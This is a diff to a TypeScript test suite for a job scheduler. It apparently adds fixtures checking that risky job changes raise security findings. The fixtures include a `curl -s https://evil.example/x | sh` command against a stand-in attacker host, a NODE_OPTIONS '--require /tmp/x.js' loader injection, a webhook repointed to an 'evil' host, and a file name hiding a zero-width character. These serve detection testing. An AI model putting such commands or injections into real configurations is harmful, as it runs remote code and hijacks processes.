@@ -268,7 +268,7 @@ export function definePlanApplySuite(name: string, openFreshDatabase: () => Prom
         { path: 'labels.team', before: null, after: 'data' },
         { path: 'retry.maxAttempts', before: 1, after: 3 },
       ]);
-      expect(change!.headline).toBe('next slot 03:00Z → 04:00Z');
+      expect(change!.headline).toBe('next slot 03:00Z → 04:00Z; changed cron, retry, labels');
       // A cron change re-assesses the catch-up radius too.
       expect(change!.findings.map((f) => f.code)).toEqual(['CF303', 'CF502']);
 
@@ -589,6 +589,10 @@ export function definePlanApplySuite(name: string, openFreshDatabase: () => Prom
         scheduleSource('freq-double', { spec: { cron: '0 * * * *', timeout: '10m' } }),
         scheduleSource('zone-move', { spec: { cron: '30 1 * * *', timezone: 'UTC' } }),
         scheduleSource('pager', { spec: { cron: '0 8 * * *', enabled: true } }),
+        scheduleSource('job-args', {}),
+        scheduleSource('job-loader', {}),
+        scheduleSource('job-cwd', {}),
+        scheduleSource('hook', { spec: { job: { type: 'http', url: 'https://hooks.example.com/x', method: 'GET' } } }),
       ];
       await driver.planAndApply(base);
       driver.clock.advance(MINUTE_MS);
@@ -601,6 +605,12 @@ export function definePlanApplySuite(name: string, openFreshDatabase: () => Prom
         scheduleSource('zone-move', { spec: { cron: '30 1 * * *', timezone: 'America/New_York' } }),
         scheduleSource('pager', { spec: { cron: '0 8 * * *', enabled: false } }),
         scheduleSource('per-second', { spec: { cron: '*/30 * * * * *', timeout: '30s', misfire: 'CATCH_UP_ALL', overlap: 'ALLOW', maxCatchUp: 200, gracePeriod: '1d' } }),
+        scheduleSource('job-args', { spec: { job: { type: 'command', command: ['node', 'jobs/job-args.js', '--all'] } } }),
+        scheduleSource('job-loader', { spec: { job: { type: 'command', command: ['node', 'jobs/job-loader.js'], env: { NODE_OPTIONS: '--require /tmp/x.js', DB: { fromEnv: 'DATABASE_URL' } } } } }),
+        scheduleSource('job-cwd', { spec: { job: { type: 'command', command: ['node', 'jobs/job-cwd.js'], cwd: '/tmp' } } }),
+        scheduleSource('hook', { spec: { job: { type: 'http', url: 'https://hooks.evil.example/x', method: 'GET' } } }),
+        scheduleSource('fetcher', { spec: { job: { type: 'command', command: ['sh', '-c', 'curl -s https://evil.example/x | sh'] } } }),
+        scheduleSource('inline', { spec: { job: { type: 'command', command: ['node', '-e', 'require("./jobs/x")', 'jobs/report\u200b.js'] } } }),
         ...herd,
       ]);
       expect(plan.errors).toEqual([]);
@@ -610,6 +620,12 @@ export function definePlanApplySuite(name: string, openFreshDatabase: () => Prom
         'freq-double': ['CF106 MEDIUM', 'CF303 MEDIUM', 'CF502 LOW'],
         'zone-move': ['CF301 MEDIUM', 'CF302 LOW'],
         pager: ['CF203 MEDIUM'],
+        'job-args': ['CF506 MEDIUM'],
+        'job-loader': ['CF401 LOW', 'CF512 HIGH', 'CF507 HIGH', 'CF506 MEDIUM'],
+        'job-cwd': ['CF509 HIGH', 'CF506 MEDIUM'],
+        hook: ['CF504 MEDIUM', 'CF511 HIGH'],
+        fetcher: ['CF502 LOW', 'CF510 HIGH'],
+        inline: ['CF502 LOW', 'CF513 HIGH', 'CF508 HIGH'],
         ...Object.fromEntries(herd.map((_, i) => [`herd-${String(i + 1).padStart(2, '0')}`, ['CF105 MEDIUM', 'CF502 LOW']])),
       });
 
